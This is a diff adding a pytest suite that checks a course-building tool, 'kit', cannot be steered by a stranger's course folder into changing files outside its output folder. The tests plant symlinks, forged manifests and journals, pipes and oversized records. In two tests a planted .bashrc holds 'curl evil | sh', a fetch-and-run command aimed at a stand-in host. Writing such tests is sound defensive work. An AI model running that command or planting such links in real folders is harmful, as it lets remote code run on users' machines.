@@ -1,0 +1,221 @@
+"""A course folder from a stranger cannot steer a build or a check outside its output folder.
+
+Each test unpacks a course folder into `home/Downloads/course` of a temporary home and
+plants what a stranger could ship in its `build/`: links under kit's own names, a forged
+record or journal, pipes and endless devices. Afterwards nothing outside the output
+folder has changed, and kit either refused with a located problem (exit 2) or built.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import shutil
+from pathlib import Path
+
+import pytest
+from helpers import FIXTURES
+
+import kit
+
+SMALL = FIXTURES / "markers" / "course.yaml"
+"""A one-week course, quick to build."""
+LINK = (
+    "is a link to somewhere else, and kit never follows links to its own files and folders; "
+    "delete the link, then try again"
+)
+NOT_A_FILE = "is a {kind}, not a file; delete it, then try again"
+TOO_LARGE = "is {size:,} bytes, far more than kit ever writes here ({limit:,}); it is not kit's"
+OUT_LINK = (
+    "is a link to another folder, and kit builds only into a real folder; "
+    "name the folder itself with -o"
+)
+DAMAGED = (
+    "kit's record of the files it wrote here is damaged, so kit cannot tell its files "
+    "from yours; delete this record and the kit's files, or build into an empty folder"
+)
+
+
+def snapshot(root: Path, skip: Path) -> dict[str, str]:
+    """Every entry under `root` but `skip`: a link's target, a file's digest, or its kind."""
+    found: dict[str, str] = {}
+    for here, folders, files in os.walk(root):
+        at = Path(here)
+        folders[:] = [f for f in folders if at / f != skip]
+        for name in folders + files:
+            path = at / name
+            key = str(path.relative_to(root))
+            if path.is_symlink():
+                found[key] = "-> " + os.readlink(path)
+            elif path.is_file():
+                found[key] = hashlib.sha256(path.read_bytes()).hexdigest()
+            else:
+                found[key] = "folder" if path.is_dir() else "other"
+    return found
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    """A user's home with a course folder from a download in it, built once already."""
+    root = tmp_path / "home"
+    (root / "Documents").mkdir(parents=True)
+    (root / ".bashrc").write_text("# the user's own shell settings\n", encoding="utf-8")
+    (root / "Documents" / "taxes.pdf").write_bytes(b"%PDF the user's taxes")
+    course = root / "Downloads" / "course"
+    course.mkdir(parents=True)
+    shutil.copytree(SMALL.parent, course, dirs_exist_ok=True)
+    kit.build(kit.load_course(course / "course.yaml"), course / "build")
+    return root
+
+
+def _course(home: Path) -> Path:
+    return home / "Downloads" / "course"
+
+
+def _run(run_kit, home: Path, *args: str) -> tuple[int, str]:
+    """Run kit in the course folder, as its user would; exit status and what it said."""
+    before = os.getcwd()
+    os.chdir(_course(home))
+    try:
+        done = run_kit(*args)
+    finally:
+        os.chdir(before)
+    return done.code, done.out + done.err
+
+
+def _outside(home: Path) -> dict[str, str]:
+    return snapshot(home, _course(home) / "build")
+
+
+def test_a_planted_record_and_backup_link_cannot_reach_the_users_home(run_kit, home: Path) -> None:
+    """The critical case: the record names `.bashrc` and `.kit-backup` leads to the home."""
+    build = _course(home) / "build"
+    record = json.loads((build / ".kit-manifest.json").read_text(encoding="utf-8"))
+    record["files"][".bashrc"] = "0" * 64
+    (build / ".kit-manifest.json").write_text(json.dumps(record), encoding="utf-8")
+    (build / ".bashrc").write_text("curl evil | sh\n", encoding="utf-8")
+    (build / ".kit-backup").symlink_to("../../..")
+    before = _outside(home)
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    assert (code, said) == (
+        2,
+        f"build/.kit-backup: {LINK}\nkit: 1 problem found; nothing was written\n",
+    )
+    assert _outside(home) == before
+    assert (home / ".bashrc").read_text(encoding="utf-8") == "# the user's own shell settings\n"
+
+
+def test_a_backup_link_alone_does_not_take_the_old_kit_away(run_kit, home: Path) -> None:
+    build = _course(home) / "build"
+    (build / ".kit-backup").symlink_to(home / "Documents")
+    (home / "Documents" / "leader-guide.docx").write_bytes(b"the user's own guide")
+    before, inside = _outside(home), snapshot(build, build / "none")
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    assert code == 2
+    assert said.startswith(f"build/.kit-backup: {LINK}\n")
+    assert _outside(home) == before
+    assert snapshot(build, build / "none") == inside
+
+
+def test_a_forged_journal_cannot_pull_a_file_in_from_outside(run_kit, home: Path) -> None:
+    """A check finishing a forged interrupted build never moves the user's files."""
+    build = _course(home) / "build"
+    (build / ".kit-journal.json").write_text(
+        json.dumps({"format": 1, "aside": ["taxes.pdf"], "placed": {}}), encoding="utf-8"
+    )
+    (build / ".kit-staging").mkdir()
+    (build / ".kit-staging" / ".kit-manifest.json").write_text("{}", encoding="utf-8")
+    (build / ".kit-backup").symlink_to(home / "Documents")
+    before = _outside(home)
+    code, said = _run(run_kit, home, "check", "course.yaml")
+    assert (code, said) == (
+        2,
+        f"build/.kit-backup: {LINK}\nkit: 1 problem found; nothing was written\n",
+    )
+    assert _outside(home) == before
+    assert (home / "Documents" / "taxes.pdf").read_bytes() == b"%PDF the user's taxes"
+    assert not (build / "taxes.pdf").exists()
+
+
+@pytest.mark.parametrize("name", [".kit-manifest.json", ".kit-journal.json"])
+def test_a_record_that_is_an_endless_device_is_not_read(run_kit, home: Path, name: str) -> None:
+    build = _course(home) / "build"
+    (build / name).unlink(missing_ok=True)
+    (build / name).symlink_to("/dev/zero")
+    for command in ("check", "build"):
+        code, said = _run(run_kit, home, command, "course.yaml")
+        assert code == 2
+        assert said.splitlines()[0] == f"build/{name}: {LINK}"
+
+
+@pytest.mark.parametrize("name", [".kit-manifest.json", ".kit-journal.json", ".kit-lock"])
+def test_a_pipe_under_a_name_of_kits_does_not_hang_it(run_kit, home: Path, name: str) -> None:
+    build = _course(home) / "build"
+    (build / name).unlink(missing_ok=True)
+    os.mkfifo(build / name)
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    assert code == 2
+    assert said.splitlines()[0] == f"build/{name}: {NOT_A_FILE.format(kind='pipe')}"
+
+
+def test_a_record_nested_beyond_reason_is_damaged_not_an_internal_error(
+    run_kit, home: Path
+) -> None:
+    build = _course(home) / "build"
+    (build / ".kit-manifest.json").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    assert (code, said) == (
+        2,
+        f"build/.kit-manifest.json: {DAMAGED}\nkit: 1 problem found; nothing was written\n",
+    )
+
+
+def test_a_record_too_large_to_be_kits_is_refused(run_kit, home: Path) -> None:
+    build = _course(home) / "build"
+    with open(build / ".kit-manifest.json", "wb") as stream:
+        stream.truncate(50_000_000)
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    too_large = TOO_LARGE.format(size=50_000_000, limit=4_000_000)
+    assert (code, said) == (
+        2,
+        f"build/.kit-manifest.json: {too_large}\nkit: 1 problem found; nothing was written\n",
+    )
+
+
+def test_a_lock_linked_to_a_missing_file_outside_creates_nothing(run_kit, home: Path) -> None:
+    build = _course(home) / "build"
+    (build / ".kit-lock").symlink_to(home / "planted")
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    assert code == 2
+    assert said.splitlines()[0] == f"build/.kit-lock: {LINK}"
+    assert not (home / "planted").exists()
+
+
+def test_an_output_folder_that_is_a_link_is_not_built_into(run_kit, home: Path) -> None:
+    course = _course(home)
+    shutil.rmtree(course / "build")
+    (course / "build").symlink_to(home)
+    before = snapshot(home, home / "none")
+    code, said = _run(run_kit, home, "build", "course.yaml")
+    assert (code, said) == (2, f"build: {OUT_LINK}\nkit: 1 problem found; nothing was written\n")
+    assert snapshot(home, home / "none") == before
+
+
+def test_the_pages_build_refuses_a_planted_backup_link(home: Path) -> None:
+    """The page's Build kit runs the same build, in a thread: the same refusal."""
+    from kit.serve.building import Builder
+
+    build = _course(home) / "build"
+    record = json.loads((build / ".kit-manifest.json").read_text(encoding="utf-8"))
+    record["files"][".bashrc"] = "0" * 64
+    (build / ".kit-manifest.json").write_text(json.dumps(record), encoding="utf-8")
+    (build / ".bashrc").write_text("curl evil | sh\n", encoding="utf-8")
+    (build / ".kit-backup").symlink_to("../../..")
+    before = _outside(home)
+    builder = Builder(build)
+    job = builder.start(kit.load_course(_course(home) / "course.yaml"), pdf=False)
+    builder.wait(timeout=60)
+    assert job.state == "failed"
+    assert LINK in job.error
+    assert _outside(home) == before
